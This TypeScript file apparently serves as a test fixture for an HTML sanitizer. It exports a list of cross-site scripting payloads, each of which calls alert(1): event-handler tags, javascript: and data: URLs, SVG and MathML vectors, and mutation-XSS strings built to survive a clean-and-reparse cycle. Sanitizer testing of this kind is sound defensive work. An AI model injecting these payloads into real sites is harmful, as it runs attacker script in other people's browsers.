// Markup that runs a script where a page is shown, or where what a cleaner wrote is parsed again. Every script calls
// alert, and nowhere else in these pages does the word stand: where it comes out, code came out.

const HANDLERS =
  "onload onerror onclick onfocus onblur onmouseover onanimationstart ontoggle onpointerenter onbegin".split(" ");
const BEARERS = [
  "<img src=x {}>",
  "<svg {}>",
  "<body {}>",
  "<input autofocus {}>",
  "<details open {}>",
  "<p style='animation-name:x' {}>",
];

const handled = BEARERS.flatMap((bearer) => HANDLERS.map((name) => bearer.replace("{}", `${name}="alert(1)"`)));

const scripts = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC='//x.example/alert.js'></SCRIPT>",
  "<script type=module>alert(1)</script>",
  "<script>alert(1)//",
  "<script\n>alert(1)</script\n>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href='data:,alert(1)'/></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'></use></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
  "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
  "<style>@import'javascript:alert(1)';</style>",
  "<style>*{background:url(javascript:alert(1))}</style>",
  "<link rel=stylesheet href='javascript:alert(1)'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href='javascript:alert(1)//'>",
];

const addresses = [
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='java&#9;script:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='vbscript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<form action='javascript:alert(1)'><button>x</button></form>",
  "<button formaction='javascript:alert(1)'>x</button>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='javascript:alert(1)'>",
  "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
  "<table background='javascript:alert(1)'><tr><td>x</table>",
  "<img srcset='x' style='background:url(javascript:alert(1))'>",
  "<video><source onerror=alert(1)></video>",
  "<audio src onloadstart=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<xss id=x tabindex=1 onfocus=alert(1)>x</xss>",
];

/** Trees that change when they are written down and parsed again. */
const mutations = [
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'></svg>",
  "<svg><p><style><a title='</style><img src=x onerror=alert(1)>'></svg>",
  "<math><mi><table><mglyph><style><img title='</style><img src=x onerror=alert(1)>'></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></math>",
  "<form><math><mi></form><form><mglyph><style></math><img src=x onerror=alert(1)></style></mglyph></form>",
  "<svg><desc><table><style><a title='</style><svg onload=alert(1)>'></table></desc></svg>",
  "<template><p title='</template><img src=x onerror=alert(1)>'></template>",
  "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
  "<iframe><img title='</iframe><img src=x onerror=alert(1)>'></iframe>",
  "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
  "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
  "<select><style><img title='</style></select><img src=x onerror=alert(1)>'></select>",
  "<option><style></option></select><img src=x onerror=alert(1)></style></option>",
  "<a id='x><img src=x onerror=alert(1)>'>x</a>",
  '<p title="><img src=x onerror=alert(1)>">x</p>',
  "<!--><img src=x onerror=alert(1)>-->",
  "<!---><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
  "<?xml <img src=x onerror=alert(1)> ?>",
  "<table><tr><td></tr><img src=x onerror=alert(1)></table>",
  "<math></p><style><!--</style><img title='--><img src=x onerror=alert(1)>'></math>",
];

/** Pages with the payload in the middle of words that are to come out. */
export const PAYLOADS: readonly string[] = [...handled, ...scripts, ...addresses, ...mutations];
